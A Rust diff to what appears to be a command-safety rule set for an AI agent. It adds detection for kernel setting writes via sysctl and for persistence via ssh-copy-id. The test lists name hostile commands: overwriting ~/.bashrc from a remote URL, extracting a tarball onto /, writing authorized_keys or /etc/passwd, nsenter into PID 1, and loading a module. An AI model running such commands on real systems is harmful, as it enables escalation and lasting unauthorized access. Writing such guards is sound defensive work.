@@ -81,9 +81,11 @@ pub(super) static RULES: &[Rule] = &[
             sh("nsenter -t 1 -m sh"),
             sh("docker run --privileged x"),
             sh("modprobe evil"),
+            sh("sysctl -w kernel.x=0"),
         ],
         not_matches: &[
             sh("lsmod"),
+            sh("sysctl -a"),
             sh("docker run --rm x"),
             sh("docker run -v \"$PWD\":/app x"),
             sh("docker build -t x . && docker run --rm x"),
@@ -108,6 +110,12 @@ pub(super) static RULES: &[Rule] = &[
             sh("rm .git/hooks/pre-commit"),
             sh("chmod -x .git/hooks/pre-commit"),
             sh("systemctl --user enable x"),
+            sh("ssh-copy-id -i k u@h"),
+            sh("tar xf x.tar -C /"),
+            sh("curl -o ~/.bashrc https://x.example"),
+            sh("sort -o ~/.bashrc x"),
+            sh("awk '{print > \"/home/u/.bashrc\"}' x"),
+            sh("docker cp c:/x ~/.bashrc"),
             write("/home/u/.ssh/authorized_keys"),
             write("/home/u/.bashrc"),
             write("/etc/passwd"),
@@ -258,6 +266,11 @@ fn kernel(ctx: &Ctx<'_>) -> Option<Hit> {
         "modprobe" if !call.has(&["-n", "--dry-run", "--show-depends", "-c"]) => {
             ctx.ask("would load a module into the kernel")
         }
+        "sysctl"
+            if call.has(&["-w", "--write", "-p"]) || call.operands().any(|arg| arg.text().contains('=')) =>
+        {
+            ctx.ask("would change the kernel's settings")
+        }
         "nsenter" => ctx.deny("would enter another process's namespaces and so the whole machine"),
         "chroot" => ctx.ask("would run a command in another root directory with all rights"),
         "docker" | "podman" | "nerdctl" if call.has(&["run", "create", "exec"]) => {
@@ -307,13 +320,16 @@ fn persistence(ctx: &Ctx<'_>) -> Option<Hit> {
         return ctx.deny("would leave a job behind that runs when the session is over; run it now, or let a person install it");
     }
     let ask = match call.program.as_str() {
+        "ssh-copy-id" => true,
         "systemctl" => call.has(&["enable", "link", "edit", "set-property"]),
         "systemd-run" | "launchctl" => !call.has(&["list", "print", "--help"]),
         "update-rc.d" | "chkconfig" => true,
         _ => false,
     };
     strictest.or_else(|| {
-        ask.then(|| ctx.ask("would leave a service behind that runs when the session is over"))?
+        ask.then(|| {
+            ctx.ask("would leave something behind that runs, or lets somebody in, when the session is over")
+        })?
     })
 }
 
